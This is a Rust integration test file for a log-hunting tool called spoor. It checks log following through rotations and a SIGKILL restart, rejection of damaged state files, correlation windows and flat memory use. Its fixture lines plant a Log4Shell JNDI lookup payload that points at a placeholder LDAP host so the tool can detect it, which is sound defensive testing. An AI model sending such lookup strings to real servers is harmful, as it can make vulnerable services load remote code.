//! Live mode through the real binary: following a log through rename and copy-truncate
//! rotations, a SIGKILL and a restart with the state file (every planted line reported exactly
//! once, in order), damaged state files refused, incremental sweeps, a correlation closing on
//! event time with a late event counted, and peak memory flat while a million lines stream by.

mod common;

use common::jsonl;
use serde_json::Value;
use std::fs::{self, OpenOptions};
use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

const LOG4SHELL: &str = "71f5fd2e-6372-4536-bbf0-092fe218d62a";

fn bin() -> PathBuf {
    assert_cmd::cargo::cargo_bin("spoor")
}

/// An access-log line at `sec` seconds into the day; planted lines carry a Log4Shell lookup.
fn line(n: u64, sec: u64, planted: bool) -> String {
    let q = if planted {
        format!("/p{n}?x=${{jndi:ldap://203.0.113.80/a}}")
    } else {
        format!("/q{n}")
    };
    format!(
        "203.0.113.9 - - [08/Jul/2024:{:02}:{:02}:{:02} +0000] \"GET {q} HTTP/1.1\" 200 5 \"-\" \"curl\"\n",
        (sec / 3600) % 24,
        (sec / 60) % 60,
        sec % 60
    )
}

fn append(path: &Path, text: &str) {
    let mut f = OpenOptions::new()
        .create(true)
        .append(true)
        .open(path)
        .unwrap();
    f.write_all(text.as_bytes()).unwrap();
}

fn plant(path: &Path, range: std::ops::Range<u64>) {
    let text: String = range.map(|n| line(n, n, true)).collect();
    append(path, &text);
}

/// The planted numbers of the findings in a JSONL output file, in order.
fn planted(out: &Path) -> Vec<u64> {
    let text = fs::read_to_string(out).unwrap_or_default();
    text.lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .filter(|v| v.get("rule").is_some())
        .filter_map(|v| {
            let raw = v["raw"].as_str()?.to_string();
            raw.split("/p").nth(1)?.split('?').next()?.parse().ok()
        })
        .collect()
}

/// Waits until `done` holds, failing after `secs` seconds with `what`.
fn wait_until(secs: u64, what: &str, mut done: impl FnMut() -> bool) {
    let until = Instant::now() + Duration::from_secs(secs);
    while !done() {
        assert!(Instant::now() < until, "timed out waiting for {what}");
        std::thread::sleep(Duration::from_millis(20));
    }
}

fn follow(args: &[&str], paths: &[&Path]) -> Child {
    Command::new(bin())
        .args(["hunt", "--follow", "--poll", "20ms", "--heartbeat", "0"])
        .args(args)
        .args(paths)
        .env("NO_COLOR", "1")
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap()
}

fn signal(child: &Child, sig: &str) {
    let ok = Command::new("kill")
        .args([sig, &child.id().to_string()])
        .status()
        .unwrap()
        .success();
    assert!(ok, "kill {sig}");
}

fn stop(child: Child) -> String {
    signal(&child, "-INT");
    let out = child.wait_with_output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr).into_owned();
    assert_eq!(out.status.code(), Some(0), "{err}");
    err
}

#[test]
fn rotations_and_a_sigkill_lose_no_line_and_repeat_none() {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("access.log");
    let out = dir.path().join("out.jsonl");
    let state = dir.path().join("state.json");
    let args = [
        "--state",
        state.to_str().unwrap(),
        "--save-every",
        "300ms",
        "--rule-id",
        LOG4SHELL,
        "-o",
        out.to_str().unwrap(),
    ];
    plant(&log, 0..50);
    let child = follow(&args, &[&log]);
    wait_until(20, "the first 50 findings", || planted(&out).len() >= 50);
    // Rotation by rename: lines written just before it come from the renamed file.
    plant(&log, 50..60);
    fs::rename(&log, dir.path().join("access.log.1")).unwrap();
    plant(&log, 60..70);
    wait_until(20, "70 findings", || planted(&out).len() >= 70);
    // Rotation by copy and truncate.
    plant(&log, 70..80);
    fs::copy(&log, dir.path().join("access.log.2")).unwrap();
    OpenOptions::new()
        .write(true)
        .truncate(true)
        .open(&log)
        .unwrap();
    plant(&log, 80..90);
    wait_until(20, "90 findings", || planted(&out).len() >= 90);
    // A state save passes, then more lines, then SIGKILL: whatever was saved last, the restart
    // must cut the output back and read on from there.
    wait_until(20, "a first state save", || state.exists());
    let saved = fs::metadata(&state).unwrap().modified().unwrap();
    wait_until(20, "a state save", || {
        fs::metadata(&state).unwrap().modified().unwrap() > saved
    });
    plant(&log, 90..100);
    wait_until(20, "100 findings", || planted(&out).len() >= 100);
    let mut child = child;
    signal(&child, "-KILL");
    child.wait().unwrap();
    // While stopped: more lines, then a rename rotation.
    plant(&log, 100..110);
    fs::rename(&log, dir.path().join("access.log.3")).unwrap();
    plant(&log, 110..120);
    let child = follow(&args, &[&log]);
    wait_until(20, "120 findings after the restart", || {
        planted(&out).len() >= 120
    });
    let err = stop(child);
    let got = planted(&out);
    assert_eq!(got, (0..120).collect::<Vec<_>>(), "stderr: {err}");
    let last: Value =
        serde_json::from_str(fs::read_to_string(&out).unwrap().lines().last().unwrap()).unwrap();
    assert!(
        last.get("summary").is_some(),
        "the output ends with the summary"
    );
}

fn hunt(args: &[&str]) -> std::process::Output {
    common::spoor().arg("hunt").args(args).output().unwrap()
}

#[test]
fn damaged_or_hostile_state_files_are_refused_with_a_clear_error() {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("access.log");
    plant(&log, 0..3);
    let state = dir.path().join("state.json");
    let ok = hunt(&["--state", state.to_str().unwrap(), log.to_str().unwrap()]);
    assert_eq!(ok.status.code(), Some(0));
    let good = fs::read(&state).unwrap();
    let text = String::from_utf8_lossy(&good).into_owned();
    let mut cases: Vec<(String, Vec<u8>)> = vec![
        ("empty".into(), Vec::new()),
        ("garbage".into(), b"\x00\xffnot json at all".to_vec()),
        ("a JSON list".into(), b"[1, 2, 3]".to_vec()),
        (
            "another version".into(),
            text.replace("\"version\":1", "\"version\":7").into_bytes(),
        ),
        (
            "an unknown format".into(),
            text.replace("\"format\":\"access\"", "\"format\":\"bogus\"")
                .into_bytes(),
        ),
        (
            "a negative offset".into(),
            text.replace("\"offset\":", "\"offset\":-").into_bytes(),
        ),
        (
            "foreign detector state".into(),
            text.replace("\"detectors\":[", "\"detectors\":[{\"evil\":1},")
                .into_bytes(),
        ),
        (
            "deep nesting".into(),
            format!("{}{}", "[".repeat(100_000), "]".repeat(100_000)).into_bytes(),
        ),
    ];
    for cut in [1, good.len() / 3, good.len() / 2, good.len() - 1] {
        cases.push((format!("truncated at {cut}"), good[..cut].to_vec()));
    }
    for (what, bytes) in cases {
        fs::write(&state, &bytes).unwrap();
        let out = hunt(&["--state", state.to_str().unwrap(), log.to_str().unwrap()]);
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{what}: {err}");
        assert!(err.contains("state file"), "{what}: {err}");
        assert!(!err.contains("panicked"), "{what}: {err}");
        assert!(
            out.stdout.is_empty(),
            "{what}: nothing read after a bad state"
        );
    }
}

#[test]
fn a_sweep_with_state_reads_only_what_was_appended() {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("access.log");
    let state = dir.path().join("state.json");
    let run = || {
        let out = hunt(&[
            "--state",
            state.to_str().unwrap(),
            "--rule-id",
            LOG4SHELL,
            "--format",
            "jsonl",
            log.to_str().unwrap(),
        ]);
        assert_eq!(out.status.code(), Some(0));
        jsonl(&out.stdout)
            .iter()
            .filter_map(|v| {
                let raw = v.get("raw")?.as_str()?.to_string();
                raw.split("/p")
                    .nth(1)?
                    .split('?')
                    .next()?
                    .parse::<u64>()
                    .ok()
            })
            .collect::<Vec<_>>()
    };
    plant(&log, 0..5);
    assert_eq!(run(), vec![0, 1, 2, 3, 4]);
    plant(&log, 5..8);
    assert_eq!(run(), vec![5, 6, 7]);
    assert!(run().is_empty());
}

const BURST: &str = "title: Probe\nid: live-probe\nname: probe\nlogsource: {category: webserver}\ndetection:\n  sel:\n    cs-uri-query|contains: probe\n  condition: sel\n---\ntitle: Probe burst\nid: live-burst\ncorrelation:\n  type: event_count\n  rules: [probe]\n  group-by: [c-ip]\n  timespan: 1m\n  condition:\n    gte: 3\nlevel: high\n";

fn probe(sec: u64) -> String {
    line(sec, sec, false).replace("/q", "/probe?probe=")
}

#[test]
fn a_correlation_fires_when_its_window_completes_and_late_events_are_counted() {
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("burst.yml");
    fs::write(&rules, BURST).unwrap();
    let log = dir.path().join("access.log");
    let out = dir.path().join("out.jsonl");
    append(
        &log,
        &format!("{}{}{}", probe(1000), probe(1010), probe(1020)),
    );
    let child = follow(
        &[
            "--no-builtin",
            "-r",
            rules.to_str().unwrap(),
            "--lateness",
            "10s",
            "-o",
            out.to_str().unwrap(),
        ],
        &[&log],
    );
    let correlations = || {
        let text = fs::read_to_string(&out).unwrap_or_default();
        text.lines()
            .filter_map(|l| serde_json::from_str::<Value>(l).ok())
            .filter(|v| v["rule"]["kind"] == "correlation")
            .count()
    };
    // The window may still grow: an event 60 s + 10 s lateness after the last is not there.
    append(&log, &line(1, 1085, false));
    std::thread::sleep(Duration::from_millis(400));
    assert_eq!(
        correlations(),
        0,
        "closed before its window could be complete"
    );
    append(&log, &line(2, 1095, false));
    wait_until(20, "the correlation finding", || correlations() == 1);
    // An input older than the watermark passed is late: counted, never silently dropped.
    append(&log, &probe(1030));
    std::thread::sleep(Duration::from_millis(200));
    stop(child);
    let text = fs::read_to_string(&out).unwrap();
    let summary: Value = serde_json::from_str(text.lines().last().unwrap()).unwrap();
    assert_eq!(summary["summary"]["late_events"], 1, "{summary}");
    assert_eq!(correlations(), 1);
    let f: Value = text
        .lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .find(|v| v["rule"]["kind"] == "correlation")
        .unwrap();
    assert_eq!(f["correlation"]["events"], 3);
}

const JNDI: &str = "title: JNDI lookup\nid: live-jndi\nlogsource: {category: webserver}\ndetection:\n  sel:\n    cs-uri-query|contains: jndi\n  condition: sel\nlevel: high\n";

/// Peak resident memory of a process, in kB (Linux).
fn vm_hwm_kb(pid: u32) -> Option<u64> {
    let s = fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
    s.lines()
        .find_map(|l| l.strip_prefix("VmHWM:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
}

#[test]
fn peak_memory_stays_flat_while_a_million_lines_are_appended() {
    if !Path::new("/proc/self/status").exists() {
        println!("no /proc: peak memory cannot be read on this system; not run");
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("access.log");
    let out = dir.path().join("out.jsonl");
    const TOTAL: u64 = 1_000_000;
    const EVERY: u64 = 10_000;
    append(&log, "");
    // One small rule: the debug build's time goes to reading, not to the whole pack.
    let rules = dir.path().join("jndi.yml");
    fs::write(&rules, JNDI).unwrap();
    let child = follow(
        &[
            "--no-builtin",
            "-r",
            rules.to_str().unwrap(),
            "-o",
            out.to_str().unwrap(),
        ],
        &[&log],
    );
    let started = Instant::now();
    let mut hwm_at_100k = None;
    let mut written = 0u64;
    while written < TOTAL {
        let text: String = (written..written + EVERY)
            .map(|n| line(n, n % 86_400, n % EVERY == EVERY - 1))
            .collect();
        append(&log, &text);
        written += EVERY;
        let batches = written / EVERY;
        wait_until(60, "the follower to keep up", || {
            planted(&out).len() as u64 >= batches
        });
        if written == 100_000 {
            hwm_at_100k = vm_hwm_kb(child.id());
        }
    }
    let hwm_at_1m = vm_hwm_kb(child.id()).expect("VmHWM");
    let hwm_at_100k = hwm_at_100k.expect("VmHWM");
    stop(child);
    println!(
        "peak RSS after 100k lines: {hwm_at_100k} kB, after 1M: {hwm_at_1m} kB ({:.1}s)",
        started.elapsed().as_secs_f64()
    );
    assert!(
        hwm_at_1m <= hwm_at_100k + hwm_at_100k / 10 + 4096,
        "peak RSS grew from {hwm_at_100k} kB to {hwm_at_1m} kB"
    );
}
